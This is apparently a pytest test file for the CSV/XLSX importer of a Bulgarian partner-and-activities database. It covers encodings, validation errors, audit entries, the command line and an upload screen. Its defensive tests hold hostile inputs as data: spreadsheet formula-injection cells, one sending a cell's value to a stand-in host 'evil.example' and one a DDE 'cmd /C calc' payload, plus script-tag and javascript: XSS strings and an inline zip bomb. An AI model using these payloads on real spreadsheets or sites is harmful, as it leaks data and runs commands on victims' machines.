"""Importing partners and activities from .csv and .xlsx files: all or nothing, every problem at once.

Each bad file must give a clear problem (its code, row and column) and leave the database
exactly as it was. The files in tests/fixtures/ are made by tests/fixtures/make_fixtures.py.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select
from streamlit.testing.v1 import AppTest

from db.access import Actor, PermissionDenied
from db.models import Activity, ActivityOrganization, AuditEntry, Organization
from db.transfer import MAX_BYTES, MAX_ROWS, import_activities, import_partners, read_table
from db.transfer.reading import decode_text, mojibake_in, read_cells, safe_openpyxl
from db.validation import Problem
from i18n import CATALOGS, translator
from i18n.problems import describe_problem
from tests.factories import add_activity, add_partner
from tests.fixtures.make_fixtures import FIXTURES
from tests.helpers import LARGO, ROOT, ROS, run_db, stored_activities, stored_partners
from ui.safe import md

FIXTURE_DIR = ROOT / "tests" / "fixtures"
EDITOR = Actor("maria", "editor")
TODAY = date(2024, 6, 1)


def fixture(name: str) -> bytes:
    return (FIXTURE_DIR / name).read_bytes()


def table_counts(engine: Engine) -> tuple[int, int, int, int]:
    with engine.connect() as connection:
        return tuple(  # type: ignore[return-value]
            connection.scalar(select(func.count()).select_from(model)) or 0
            for model in (Organization, Activity, ActivityOrganization, AuditEntry)
        )


def codes(problems: list[Problem]) -> list[tuple[int | None, str, str]]:
    return [(p.row, p.field, p.code) for p in problems]


@pytest.fixture
def partners(engine: Engine) -> dict[str, int]:
    """The two partners the activity files name: by full name, by short name, or with quotes dropped."""
    return {
        "ros": add_partner(engine, slug="ros-iztok", name=ROS, short_name="РОС „Изток“", kind="community_council"),
        "largo": add_partner(engine, slug="largo", name=LARGO, short_name="Ларго", kind="association"),
    }


# ---- the files themselves ---------------------------------------------------------------------


@pytest.mark.parametrize("name", list(FIXTURES))
def test_the_fixtures_are_what_the_script_makes(name: str) -> None:
    made = FIXTURES[name]()
    if name.endswith(".xlsx") and made.startswith(b"PK\x03\x04"):
        # The XML inside is spaced differently depending on which ElementTree wrote it; compare the cells.
        assert read_cells(made, name) == read_cells(fixture(name), name)
    else:
        assert made == fixture(name)


def test_a_windows_1251_csv_with_semicolons_is_read_by_its_bulgarian_headers() -> None:
    rows, problems = read_table(fixture("activities_cp1251.csv"), "дейности.csv", table="activities")
    assert problems == []
    assert rows[1] == {
        "_row": 3,
        "start_date": "2014-05-24",
        "end_date": "2014-05-25",
        "title": "Празник на буквите",
        "type": "празник",
        "organizations": "Ларго (финансира); РОС „Изток“",
        "role": "",
        "location": "Двора на училището",
        "participants": "120",
        "pupils_reached": "95",
        "description": "",
        "news_url": "",
    }


def test_an_xlsx_gives_real_dates_and_numbers() -> None:
    rows, problems = read_table(fixture("activities_excel_dates.xlsx"), "a.xlsx", table="activities")
    assert problems == []
    assert rows == [
        {
            "_row": 2,
            "start_date": date(2014, 4, 8),
            "end_date": "",
            "title": "Кръгла маса за Деня на ромите",
            "type": "round table",
            "organizations": "РОС „Изток“",
            "role": "organizer",
            "location": "ОУ „Иван Вазов“",
            "participants": 40,
            "pupils_reached": 12,
        },
        {
            "_row": 3,
            "start_date": date(2015, 3, 2),
            "end_date": date(2015, 3, 6),
            "title": "Седмица на четенето",
            "type": "Campaign",
            "organizations": "Ларго",
            "role": "Партньор",
            "location": "",
            "participants": 200,
            "pupils_reached": 180,
        },
    ]


def test_openpyxl_reads_through_defusedxml() -> None:
    assert safe_openpyxl().DEFUSEDXML is True


@pytest.mark.parametrize(
    "header",
    [
        "Дата;Заглавие;Вид;Организации",
        "  ДАТА ; заглавие ;ВИД;организации ",
        "date;Title;TYPE;Organizations",
        "Date,title,type,organizations",
        '"Дата";"Заглавие";"Вид";"Организации"',
    ],
)
def test_headers_are_matched_in_either_language_without_case_or_spaces(header: str) -> None:
    separator = "," if "," in header else ";"
    data = f"{header}\r\n08.04.2014{separator}Среща{separator}среща{separator}Ларго\r\n".encode()
    rows, problems = read_table(data, "x.csv", table="activities")
    assert problems == []
    assert rows == [
        {"_row": 2, "start_date": "08.04.2014", "title": "Среща", "type": "среща", "organizations": "Ларго"}
    ]


@pytest.mark.parametrize(
    ("header", "fields"),
    [
        ("Кратко име;Лице за контакт;Партньор от", ["short_name", "contact_person", "partner_since"]),
        ("short_name;CONTACT;partner since", ["short_name", "contact_person", "partner_since"]),
        ("краткоиме;лицезаконтакт;Partner_Since", ["short_name", "contact_person", "partner_since"]),
    ],
)
def test_spaces_and_underscores_inside_headers_do_not_matter(header: str, fields: list[str]) -> None:
    rows, problems = read_table(f"Име;{header}\r\nАДРА;а;б;в\r\n".encode(), "p.csv", table="partners")
    assert problems == []
    assert list(rows[0]) == ["_row", "name", *fields]


def test_a_comma_separated_csv_keeps_commas_inside_quotes() -> None:
    rows, problems = read_table(fixture("partners_utf8_bom.csv"), "p.csv", table="partners")
    assert problems == []
    assert [row["mission"] for row in rows] == ["Хуманитарна помощ, образование и подкрепа.", ""]


def test_the_table_is_recognised_by_its_required_columns_when_not_named() -> None:
    partners_rows, partner_problems = read_table(fixture("partners_utf8_bom.csv"), "p.csv")
    activity_rows, activity_problems = read_table(fixture("activities_cp1251.csv"), "a.csv")
    assert (partner_problems, activity_problems) == ([], [])
    assert "name" in partners_rows[0] and "title" in activity_rows[0]
    _, problems = read_table("Град;Телефон\r\nСофия;1\r\n".encode(), "x.csv")
    assert codes(problems) == [(1, "file", "unknown_table")]


@pytest.mark.parametrize(
    ("text", "garbled"),
    [
        ("Кръгла маса".encode().decode("cp1251"), "РљСЂСЉРіР»Р°"),
        ("празник".encode().decode("cp1252"), "Ð¿Ñ€Ð°Ð·Ð½Ð¸Ðº"),
        ("Ромски общностен съвет „Изток“ – Кюстендил", None),
        ("ОУ „Иван Вазов“, №5 – 8 °C ± 2 € «Я» ДЯ“", None),
        ("Café ÆØÅ", None),
    ],
)
def test_mojibake_is_told_from_real_text(text: str, garbled: str | None) -> None:
    assert mojibake_in(text) == garbled


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ("Име;Град\r\nЛарго;Кюстендил\r\n".encode("cp1251"), "Име;Град\r\nЛарго;Кюстендил\r\n"),
        ("Име;Град\r\nЛарго;Кюстендил\r\n".encode(), "Име;Град\r\nЛарго;Кюстендил\r\n"),
        ("Име;Град\r\nЛарго;Кюстендил\r\n".encode("utf-8-sig"), "Име;Град\r\nЛарго;Кюстендил\r\n"),
        ("Name;City\r\nLargo;Kyustendil\r\n".encode("ascii"), "Name;City\r\nLargo;Kyustendil\r\n"),
    ],
)
def test_utf8_and_windows_1251_are_decoded(data: bytes, text: str) -> None:
    assert decode_text(data) == (text, [])


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        ("Име;Град\r\nЛарго;Кюстендил\r\n".encode("utf-16"), Problem("file", "utf16_text")),  # "Unicode text"
        (b"\xef\xbb\xbf" + "Име;Град".encode("cp1251"), Problem("file", "bad_encoding")),  # a BOM promises UTF-8
        # Greek read as Windows-1251: "БиЮнб;ЕллЬдб"; Western: "Dьsseldorf"
        ("Name;City\r\nΑθήνα;Ελλάδα\r\n".encode("cp1253"), Problem("file", "bad_encoding")),
        ("Name;City\r\nDüsseldorf;Ärger\r\n".encode("cp1252"), Problem("file", "bad_encoding")),
        (b"Name;City\r\nLargo;\x00\x01\x02\r\n", Problem("file", "not_text", {"code": "00"}, 2)),
    ],
)
def test_other_encodings_are_refused_not_guessed(data: bytes, problem: Problem) -> None:
    assert decode_text(data) == ("", [problem])


# ---- bad files: a clear problem and an unchanged database ------------------------------------

BAD_FILES = [
    # (file, table, the problems as (row, field, code))
    ("empty.csv", "activities", [(None, "file", "empty_file")]),
    ("image.csv", "activities", [(None, "file", "not_a_spreadsheet")]),
    ("image.xlsx", "partners", [(None, "file", "not_a_spreadsheet")]),
    ("archive.xlsx", "partners", [(None, "file", "not_a_spreadsheet")]),
    ("random_bytes.csv", "activities", [(None, "file", "bad_encoding")]),
    ("mojibake_cp1251.csv", "activities", [(1, "file", "mojibake")]),
    ("mojibake_latin.csv", "activities", [(1, "file", "mojibake")]),
    ("tab_separated.csv", "activities", [(1, "file", "bad_separator")]),
    (
        "missing_and_unknown_columns.csv",
        "activities",
        [(1, "file", "unknown_column"), (1, "organizations", "missing_column")],
    ),
    (
        "bad_values.csv",
        "activities",
        [
            (2, "start_date", "bad_date"),
            (3, "start_date", "bad_date"),
            (4, "end_date", "end_before_start"),
            (4, "participants", "negative"),
            (4, "pupils_reached", "not_a_number"),
            (5, "type", "unknown_choice"),
            (5, "pupils_reached", "not_a_whole_number"),
            (5, "role", "unknown_choice"),
            (5, "organizations", "unknown_organization"),
            (6, "news_url", "bad_link"),
            (7, "title", "required"),
            (7, "organizations", "required"),
        ],
    ),
    (
        "duplicates.csv",
        "activities",
        [(2, "title", "duplicate_activity"), (4, "title", "duplicate_in_file")],
    ),
]


@pytest.mark.parametrize(("name", "table", "expected"), BAD_FILES, ids=[case[0] for case in BAD_FILES])
def test_a_bad_file_is_refused_with_every_problem_and_nothing_is_written(
    engine: Engine, writer: Engine, partners: dict[str, int], name: str, table: str, expected: list[Any]
) -> None:
    add_activity(
        engine,
        title="Кръгла маса за Деня на ромите",
        type="round_table",
        start=date(2014, 4, 8),
        partners=((partners["ros"], "organizer"),),
    )
    before = table_counts(engine)
    importer = import_partners if table == "partners" else import_activities
    result = importer(engine=writer, actor=EDITOR, data=fixture(name), filename=name)
    assert codes(result.problems) == expected
    assert (result.ok, result.added) == (False, 0)
    assert table_counts(engine) == before


def test_the_problems_name_the_row_the_column_and_the_value(
    engine: Engine, writer: Engine, partners: dict[str, int]
) -> None:
    result = import_activities(engine=writer, actor=EDITOR, data=fixture("bad_values.csv"), filename="b.csv")
    said = [describe_problem(translator("bg"), p) for p in result.problems]
    assert said[0] == "Ред 2: „Дата“: „31.02.2024“ не е дата (пишете 08.04.2014 или 2014-04-08)."
    assert "Ред 5: „Партньори“: няма партньор „Няма такъв“. Добавете го първо или проверете името." in said
    english = [describe_problem(translator("en"), p) for p in result.problems]
    assert english[3] == "Row 4: “Participants” cannot be negative (-5)."


@pytest.mark.parametrize(
    ("data", "filename", "expected"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "partners.csv", [(None, "file", "not_a_spreadsheet")]),
        (fixture("activities_excel_dates.xlsx"), "renamed.csv", [(None, "file", "wrong_extension")]),
        ("Име\r\nЛарго\r\n".encode(), "partners.xlsx", [(None, "file", "wrong_extension")]),
        ("Име\r\nЛарго\r\n".encode(), "partners.xls", [(None, "file", "unsupported_format")]),
        ("Име\r\nЛарго\r\n".encode(), "partners", [(None, "file", "unsupported_format")]),
        (b"\xef\xbb\xbf\r\n \r\n", "partners.csv", [(None, "file", "empty_file")]),
        (b";;;\r\n;;\r\n", "partners.csv", [(None, "file", "empty_file")]),
        ("Име;Град\r\n".encode(), "partners.csv", [(None, "file", "no_rows")]),
        ("Име;Град;Име\r\nЛарго;К;Л\r\n".encode(), "partners.csv", [(1, "name", "duplicate_column")]),
        ("Име;Град\r\nЛарго;Кюстендил;излишно\r\n".encode(), "partners.csv", [(2, "file", "extra_cell")]),
        ("Име;;Град\r\nЛарго;;Кюстендил\r\n".encode(), "partners.csv", []),
    ],
)
def test_files_that_are_not_what_they_claim(
    engine: Engine, writer: Engine, data: bytes, filename: str, expected: list[Any]
) -> None:
    before = table_counts(engine)
    result = import_partners(engine=writer, actor=EDITOR, data=data, filename=filename, dry_run=True)
    assert codes(result.problems) == expected
    assert table_counts(engine) == before


def test_an_unclosed_quote_names_its_row(engine: Engine, writer: Engine) -> None:
    data = 'Име;Град\r\nЛарго;Кюстендил\r\n"АДРА;София\r\n'.encode()
    result = import_partners(engine=writer, actor=EDITOR, data=data, filename="p.csv")
    assert codes(result.problems) == [(3, "file", "bad_quotes")]


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(engine: Engine, writer: Engine) -> None:
    data = "Име\r\n".encode() + b"x" * MAX_BYTES
    result = import_partners(engine=writer, actor=EDITOR, data=data, filename="big.csv")
    assert codes(result.problems) == [(None, "file", "file_too_large")]
    assert describe_problem(translator("en"), result.problems[0]) == (
        "The file is larger than 2 MB. Split it into smaller files."
    )


@pytest.mark.parametrize(("rows", "refused"), [(MAX_ROWS, False), (MAX_ROWS + 1, True)])
def test_the_row_limit(engine: Engine, writer: Engine, rows: int, refused: bool) -> None:
    data = ("Име\r\n" + "".join(f"Партньор {n}\r\n" for n in range(rows))).encode()
    result = import_partners(engine=writer, actor=EDITOR, data=data, filename="many.csv", dry_run=True)
    if refused:
        assert codes(result.problems) == [(None, "file", "too_many_rows")]
        assert describe_problem(translator("bg"), result.problems[0]) == (
            "Файлът има повече от 5000 реда. Разделете го на няколко по-малки файла."
        )
    else:
        assert (result.problems, result.added) == ([], MAX_ROWS)


def test_an_xlsx_that_unpacks_to_too_much_is_refused(engine: Engine, writer: Engine) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (60 * 1024 * 1024))
    result = import_partners(engine=writer, actor=EDITOR, data=buffer.getvalue(), filename="bomb.xlsx")
    assert codes(result.problems) == [(None, "file", "workbook_too_large")]


# ---- good files ----------------------------------------------------------------------------------


def test_a_bulgarian_excel_csv_of_activities_is_imported(
    engine: Engine, writer: Engine, partners: dict[str, int]
) -> None:
    result = import_activities(
        engine=writer, actor=EDITOR, data=fixture("activities_cp1251.csv"), filename="d.csv", today=TODAY
    )
    assert (result.problems, result.rows_read, result.added) == ([], 2, 2)
    assert stored_activities(engine) == [
        {
            "start_date": date(2014, 4, 8),
            "end_date": None,
            "title": "Кръгла маса за Деня на ромите",
            "type": "round_table",
            "status": "held",
            "location": "ОУ „Иван Вазов“ – Кюстендил",
            "participants": 40,
            "pupils_reached": 12,
            "description": "Предизвикателства и възможности; гости от общността.",
            "news_url": "https://school.example.bg/news/roma-day",
            "organizations": [(ROS, "organizer"), (LARGO, "organizer")],
        },
        {
            "start_date": date(2014, 5, 24),
            "end_date": date(2014, 5, 25),
            "title": "Празник на буквите",
            "type": "celebration",
            "status": "held",
            "location": "Двора на училището",
            "participants": 120,
            "pupils_reached": 95,
            "description": "",
            "news_url": "",
            "organizations": [(ROS, "partner"), (LARGO, "funder")],
        },
    ]


def test_an_xlsx_with_real_dates_is_imported(engine: Engine, writer: Engine, partners: dict[str, int]) -> None:
    result = import_activities(
        engine=writer, actor=EDITOR, data=fixture("activities_excel_dates.xlsx"), filename="d.xlsx", today=TODAY
    )
    assert (result.problems, result.added) == ([], 2)
    assert [
        (a["start_date"], a["end_date"], a["type"], a["participants"], a["pupils_reached"], a["organizations"])
        for a in stored_activities(engine)
    ] == [
        (date(2014, 4, 8), None, "round_table", 40, 12, [(ROS, "organizer")]),
        (date(2015, 3, 2), date(2015, 3, 6), "campaign", 200, 180, [(LARGO, "partner")]),
    ]


def test_a_utf8_bom_csv_of_partners_is_imported(engine: Engine, writer: Engine) -> None:
    result = import_partners(engine=writer, actor=EDITOR, data=fixture("partners_utf8_bom.csv"), filename="p.csv")
    assert (result.problems, result.added) == ([], 2)
    assert stored_partners(engine) == [
        {
            "name": "Фондация „АДРА“ – България",
            "short_name": "АДРА",
            "kind": "foundation",
            "city": "София",
            "website": "https://adra.example.bg",
            "email": "office@adra.example.bg",
            "phone": "+359 2 123 4567",
            "contact_person": "Иван Петров",
            "mission": "Хуманитарна помощ, образование и подкрепа.",
            "focus_areas": ["education", "humanitarian"],
            "partner_since": date(2012, 9, 15),
            "is_active": True,
        },
        {
            "name": "Център „Амалипе“",
            "short_name": "Амалипе",
            "kind": "ngo",
            "city": "Велико Търново",
            "website": "",
            "email": "",
            "phone": "",
            "contact_person": "",
            "mission": "",
            "focus_areas": ["intercultural"],
            "partner_since": date(2010, 1, 20),
            "is_active": True,
        },
    ]


def test_every_imported_record_is_audited_with_its_file_and_row(engine: Engine, writer: Engine) -> None:
    import_partners(engine=writer, actor=EDITOR, data=fixture("partners_utf8_bom.csv"), filename="p.csv")
    with engine.connect() as connection:
        entries = connection.execute(select(AuditEntry).order_by(AuditEntry.id)).all()
    assert [(e.actor, e.action, e.entity, e.summary) for e in entries] == [
        ("maria", "create", "partner", "Фондация „АДРА“ – България ← p.csv:2"),
        ("maria", "create", "partner", "Център „Амалипе“ ← p.csv:3"),
    ]
    assert json.loads(entries[0].after)["focus_areas"] == ["education", "humanitarian"]


@pytest.mark.parametrize("name", ["formulas.csv", "formulas.xlsx"])
def test_formula_like_cells_come_in_as_plain_text(
    engine: Engine, writer: Engine, partners: dict[str, int], name: str
) -> None:
    result = import_activities(engine=writer, actor=EDITOR, data=fixture(name), filename=name, today=TODAY)
    assert result.problems == []
    assert [(a["title"], a["location"], a["description"]) for a in stored_activities(engine)] == [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Натисни")', "+1 етаж", "-2 стаи"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "таб", "=1+2"),
    ]


def test_markup_in_text_is_stored_as_the_text_it_is(engine: Engine, writer: Engine) -> None:
    result = import_partners(engine=writer, actor=EDITOR, data=fixture("html_partners.csv"), filename="h.csv")
    assert result.problems == []
    stored = stored_partners(engine)[0]
    assert (stored["name"], stored["mission"]) == (
        "<script>alert('Ларго')</script>",
        "<b>удебелено</b> [връзка](javascript:alert(1))",
    )


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("08.04.2014", date(2014, 4, 8)),
        ("2014-04-08", date(2014, 4, 8)),
        (" 8.4.2014 ", date(2014, 4, 8)),
    ],
)
def test_dates_as_offices_write_them(
    engine: Engine, writer: Engine, partners: dict[str, int], cell: str, expected: date
) -> None:
    data = f"Дата;Заглавие;Вид;Организации\r\n{cell};Среща;среща;Ларго\r\n".encode()
    result = import_activities(engine=writer, actor=EDITOR, data=data, filename="d.csv", today=TODAY)
    assert result.problems == []
    assert stored_activities(engine)[0]["start_date"] == expected


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ("Ларго;", [(LARGO, "partner")]),
        ("ларго;гост", [(LARGO, "guest")]),
        ('"Сдружение ""Ларго""";funder', [(LARGO, "funder")]),
        ('"Ларго; РОС „Изток“";организатор', [(ROS, "organizer"), (LARGO, "organizer")]),
        ('"Ларго (гост); ромски общностен съвет, кв. изток – кюстендил";', [(ROS, "partner"), (LARGO, "guest")]),
    ],
)
def test_partners_are_found_by_name_or_short_name_with_their_roles(
    engine: Engine, writer: Engine, partners: dict[str, int], cells: str, expected: list[tuple[str, str]]
) -> None:
    data = f"Дата;Заглавие;Вид;Организации;Роля\r\n08.04.2014;Среща;среща;{cells}\r\n".encode()
    result = import_activities(engine=writer, actor=EDITOR, data=data, filename="d.csv", today=TODAY)
    assert result.problems == []
    assert stored_activities(engine)[0]["organizations"] == expected


def test_a_short_name_two_partners_share_must_be_written_in_full(engine: Engine, writer: Engine) -> None:
    add_partner(engine, slug="a", name="Център „Амалипе“ – Търново", short_name="Амалипе")
    add_partner(engine, slug="b", name="Център „Амалипе“ – Кюстендил", short_name="Амалипе")
    before = table_counts(engine)
    data = "Дата;Заглавие;Вид;Организации\r\n08.04.2014;Среща;среща;Амалипе\r\n".encode()
    result = import_activities(engine=writer, actor=EDITOR, data=data, filename="d.csv")
    assert codes(result.problems) == [(2, "organizations", "ambiguous_organization")]
    assert table_counts(engine) == before


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ("08.04.2014;проведена", ("held", [])),
        ("08.04.2030;planned", ("planned", [])),
        ("08.04.2014;Отменена", ("cancelled", [])),
        ("08.04.2014;", ("held", [])),
        ("08.04.2030;", ("planned", [])),
        ("08.04.2014;забравена", (None, [(2, "status", "unknown_choice")])),
    ],
)
def test_the_status_column_is_optional(
    engine: Engine, writer: Engine, partners: dict[str, int], cells: str, expected: tuple[str | None, list[Any]]
) -> None:
    data = f"Дата;Състояние;Заглавие;Вид;Организации\r\n{cells};Среща;среща;Ларго\r\n".encode()
    result = import_activities(engine=writer, actor=EDITOR, data=data, filename="d.csv", today=TODAY)
    status, problems = expected
    assert codes(result.problems) == problems
    assert [a["status"] for a in stored_activities(engine)] == ([status] if status else [])


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ("Ларго;;;", ("other", True, [])),
        ("Ларго;сдружение;не;", ("association", False, [])),
        ('Ларго;Association;Yes;"Education; work with parents"', ("association", True, [])),
        # A focus area is a tag: `танци` would be added (tests/test_import_suggestions.py), kinds are a closed list.
        ("Ларго;клуб;може би;танци", (None, None, [(2, "kind", "unknown_choice"), (2, "is_active", "unknown_choice")])),
    ],
)  # fmt: skip
def test_partner_kinds_focus_areas_and_activity_by_name_or_code(
    engine: Engine, writer: Engine, cells: str, expected: tuple[Any, Any, list[Any]]
) -> None:
    data = f"Име;Вид;Активен;Направления\r\n{cells}\r\n".encode()
    result = import_partners(engine=writer, actor=EDITOR, data=data, filename="p.csv")
    kind, active, problems = expected
    assert codes(result.problems) == problems
    assert [(p["kind"], p["is_active"]) for p in stored_partners(engine)] == ([(kind, active)] if kind else [])


def test_partners_already_recorded_or_twice_in_the_file_are_refused(engine: Engine, writer: Engine) -> None:
    add_partner(engine, slug="largo", name=LARGO, short_name="Ларго")
    before = table_counts(engine)
    data = 'Име\r\n"сдружение ""ларго"""\r\nАДРА\r\n  адра \r\n'.encode()
    result = import_partners(engine=writer, actor=EDITOR, data=data, filename="p.csv")
    assert codes(result.problems) == [(2, "name", "duplicate_partner"), (4, "name", "duplicate_in_file")]
    assert (
        describe_problem(translator("bg"), result.problems[1])
        == "Ред 4: „адра“ се повтаря във файла (вече е на ред 3)."
    )
    assert table_counts(engine) == before


def test_a_dry_run_counts_what_would_be_added_and_writes_nothing(
    engine: Engine, writer: Engine, partners: dict
) -> None:
    before = table_counts(engine)
    result = import_activities(
        engine=writer, actor=EDITOR, data=fixture("activities_cp1251.csv"), filename="d.csv", dry_run=True
    )
    assert (result.ok, result.dry_run, result.rows_read, result.added) == (True, True, 2, 2)
    assert table_counts(engine) == before


def test_a_viewer_may_not_import_even_a_dry_run(engine: Engine, writer: Engine) -> None:
    before = table_counts(engine)
    with pytest.raises(PermissionDenied):
        import_partners(
            engine=writer, actor=Actor("guest", "viewer"), data=fixture("partners_utf8_bom.csv"), filename="p.csv"
        )
    with pytest.raises(PermissionDenied):
        import_activities(engine=writer, actor=Actor("guest", "viewer"), data=b"", filename="", dry_run=True)
    assert table_counts(engine) == before


def test_importing_the_same_file_twice_adds_nothing_the_second_time(
    engine: Engine, writer: Engine, partners: dict
) -> None:
    data = fixture("activities_cp1251.csv")
    assert import_activities(engine=writer, actor=EDITOR, data=data, filename="d.csv").added == 2
    before = table_counts(engine)
    again = import_activities(engine=writer, actor=EDITOR, data=data, filename="d.csv")
    assert codes(again.problems) == [(2, "title", "duplicate_activity"), (3, "title", "duplicate_activity")]
    assert table_counts(engine) == before


# ---- every code said in both languages -----------------------------------------------------------


def test_every_problem_the_import_can_report_has_a_message_and_every_field_a_label() -> None:
    source = "\n".join(p.read_text(encoding="utf-8") for p in (ROOT / "db" / "transfer").glob("*.py"))
    found = set(re.findall(r"""Problem\(\s*(?:"[a-z_]+"|FILE|column\.field),\s*"([a-z_]+)\"""", source))
    assert len(found) > 15
    from db.transfer.reading import COLUMNS

    fields = {"file"} | {column.field for columns in COLUMNS.values() for column in columns}
    for catalog in CATALOGS.values():
        assert {f"problem.{code}" for code in found} - set(catalog) == set()
        assert {f"field.{name}" for name in fields} - set(catalog) == set()


def test_the_keys_the_transfer_screen_builds_exist() -> None:
    built = {f"transfer.table_{table}" for table in ("partners", "activities")}
    built |= {f"transfer.{table}_file" for table in ("partners", "activities")}
    for catalog in CATALOGS.values():
        assert built - set(catalog) == set()


# ---- the command line ------------------------------------------------------------------------


def write(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def test_the_command_line_imports_partners_then_activities(database_url: str, engine: Engine, tmp_path: Path) -> None:
    partners_file = write(
        tmp_path, "партньори.csv", f"Име;Кратко име\r\n{ROS};РОС „Изток“\r\n{LARGO};Ларго\r\n".encode("cp1251")
    )
    done = run_db(database_url, "import", "partners", partners_file)
    assert (done.returncode, done.stdout.strip(), done.stderr) == (0, "Внесени записи от „партньори.csv“: 2.", "")
    activities_file = write(tmp_path, "d.csv", fixture("activities_cp1251.csv"))
    done = run_db(database_url, "--lang", "en", "import", "activities", activities_file)
    assert (done.returncode, done.stdout.strip()) == (0, "Records imported from “d.csv”: 2.")
    assert [a["title"] for a in stored_activities(engine)] == ["Кръгла маса за Деня на ромите", "Празник на буквите"]
    with engine.connect() as connection:
        assert set(connection.scalars(select(AuditEntry.actor))) == {"command-line"}


def test_a_dry_run_on_the_command_line_writes_nothing(database_url: str, engine: Engine, tmp_path: Path) -> None:
    before = table_counts(engine)
    path = write(tmp_path, "p.csv", fixture("partners_utf8_bom.csv"))
    done = run_db(database_url, "import", "partners", path, "--dry-run")
    assert done.returncode == 0
    assert (
        done.stdout.strip() == "Проверка без запис: файлът „p.csv“ е наред, записи за внасяне: 2. Нищо не е записано."
    )
    assert table_counts(engine) == before


@pytest.mark.parametrize(
    ("lang", "expected"),
    [
        (
            "bg",
            [
                "Ред 2: „Дата“: „31.02.2024“ не е дата (пишете 08.04.2014 или 2014-04-08).",
                "Ред 3: „Дата“: „вчера“ не е дата (пишете 08.04.2014 или 2014-04-08).",
                "Ред 4: Крайната дата е преди началната.",
                "Ред 4: „Участници“ не може да е отрицателно число (-5).",
            ],
        ),
        (
            "en",
            [
                "Row 2: “Date”: “31.02.2024” is not a date (write 08.04.2014 or 2014-04-08).",
                "Row 3: “Date”: “вчера” is not a date (write 08.04.2014 or 2014-04-08).",
                "Row 4: The end date is before the start date.",
                "Row 4: “Participants” cannot be negative (-5).",
            ],
        ),
    ],
)
def test_the_command_line_prints_every_problem_and_fails(
    database_url: str, engine: Engine, partners: dict[str, int], tmp_path: Path, lang: str, expected: list[str]
) -> None:
    before = table_counts(engine)
    done = run_db(
        database_url, "--lang", lang, "import", "activities", write(tmp_path, "b.csv", fixture("bad_values.csv"))
    )
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 2 and done.stdout == ""
    assert lines[:4] == expected
    assert len(lines) == 13
    assert (
        lines[-1]
        == {
            "bg": "Нищо не е внесено. Проблеми във файла: 12.",
            "en": "Nothing was imported. Problems in the file: 12.",
        }[lang]
    )
    assert table_counts(engine) == before


@pytest.mark.parametrize(
    ("name", "message"),
    [
        (
            "image.csv",
            "Файлът не е таблица: съдържанието му не е нито CSV текст, нито работна книга на Excel (.xlsx), "
            "каквото и да е разширението му.",
        ),
        (
            "random_bytes.csv",
            "Файлът не може да бъде прочетен: текстът му не е нито в UTF-8, нито в Windows-1251 (кирилица). "
            "В Excel го запишете като „CSV UTF-8“.",
        ),
        ("empty.csv", "Файлът е празен."),
    ],
)
def test_the_command_line_explains_files_it_cannot_read(
    database_url: str, engine: Engine, tmp_path: Path, name: str, message: str
) -> None:
    done = run_db(database_url, "import", "partners", write(tmp_path, name, fixture(name)))
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [message, "Нищо не е внесено. Проблеми във файла: 1."]


def test_a_missing_file_is_said_not_traced(database_url: str, engine: Engine, tmp_path: Path) -> None:
    done = run_db(database_url, "--lang", "en", "import", "partners", str(tmp_path / "nowhere.csv"))
    assert done.returncode == 1
    assert done.stderr.strip() == f"Cannot open the file “{tmp_path / 'nowhere.csv'}”."


# ---- the upload on the Data screen ---------------------------------------------------------------


def _import_screen(lang: str) -> None:
    import pandas as pd

    from db.access import Actor
    from db.filters import ActivityFilters
    from i18n import translator
    from ui.context import PageContext
    from ui.transfer import import_panel

    context = PageContext(
        lang=lang,
        t=translator(lang),
        filters=ActivityFilters(),
        type_names={},
        kind_names={},
        focus_names={},
        organizations=pd.DataFrame({"id": [], "short_name": []}),
        has_records=True,
    )
    import_panel(context, Actor("maria", "editor"))


def import_screen(lang: str = "bg") -> AppTest:
    app = AppTest.from_function(_import_screen, kwargs={"lang": lang}, default_timeout=60)
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def test_an_upload_is_previewed_then_imported_with_one_click(engine: Engine, partners: dict[str, int]) -> None:
    app = import_screen()
    app.radio(key="import_table").set_value("activities").run()
    app.file_uploader[0].set_value(("дейности.csv", fixture("activities_cp1251.csv"), "text/csv")).run()
    assert not app.exception
    preview = app.dataframe[0].value
    assert list(preview.columns)[:4] == ["Ред", "Дата", "Крайна дата", "Заглавие"]
    assert preview["Заглавие"].tolist() == ["Кръгла маса за Деня на ромите", "Празник на буквите"]
    assert [s.value for s in app.success] == ["Файлът е наред. Записи за внасяне: 2."]
    assert stored_activities(engine) == []
    next(b for b in app.button if b.label == "Внеси записите (2)").click().run()
    assert not app.exception
    assert [s.value for s in app.success] == ["Внесени записи: 2."]
    assert [a["title"] for a in stored_activities(engine)] == ["Кръгла маса за Деня на ромите", "Празник на буквите"]


def test_an_upload_with_problems_shows_them_escaped_and_offers_no_import(engine: Engine) -> None:
    app = import_screen("en")
    data = "Име;Уебсайт\r\n<script>x</script>;javascript:alert(1)\r\n".encode()
    app.file_uploader[0].set_value(("p.csv", data, "text/csv")).run()
    assert not app.exception
    error = app.error[0].value
    assert error.startswith(md("Nothing will be imported until you correct in the file:"))
    assert md("“javascript:alert(1)” is not a web address") in error and "<script>" not in error
    assert [b.label for b in app.button] == []
    assert table_counts(engine) == (0, 0, 0, 0)


def test_a_picture_renamed_to_csv_is_refused_on_the_screen(engine: Engine) -> None:
    app = import_screen()
    app.file_uploader[0].set_value(("partners.csv", fixture("image.csv"), "text/csv")).run()
    assert not app.exception
